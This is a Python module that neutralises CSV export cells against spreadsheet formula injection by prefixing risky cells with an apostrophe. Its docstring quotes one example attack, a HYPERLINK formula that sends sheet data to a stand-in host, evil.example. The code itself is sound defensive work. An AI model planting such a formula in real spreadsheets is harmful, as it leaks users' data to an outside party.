"""CSV the project writes (back-office exports, reports): every cell neutralised against formula injection.

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a
formula (`=HYPERLINK("http://evil.example/?x="&A1,"click")` leaks the sheet on a click). Such cells
get a leading apostrophe, which spreadsheets show as text and never evaluate (OWASP's advice).
Plain numbers (`-5`, `+7`, `-0.25`) stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterable, AsyncIterator, Iterable, Iterator
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def safe_cell(value: Any) -> str:
    """The cell's text, prefixed with `'` when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_line(values: Iterable[Any], *, delimiter: str = ",") -> str:
    """One CSV record (with its line end) of neutralised cells; a cell holding the delimiter, a quote
    or a line break is quoted."""
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerow([safe_cell(v) for v in values])
    return buffer.getvalue()


def iter_csv(header: Iterable[Any], rows: Iterable[Iterable[Any]], *, delimiter: str = ",") -> Iterator[str]:
    """A whole CSV file, record by record (for a streaming response or a file)."""
    yield csv_line(header, delimiter=delimiter)
    for row in rows:
        yield csv_line(row, delimiter=delimiter)


async def aiter_csv(header: Iterable[Any], rows: AsyncIterable[Iterable[Any]]) -> AsyncIterator[str]:
    yield csv_line(header)
    async for row in rows:
        yield csv_line(row)
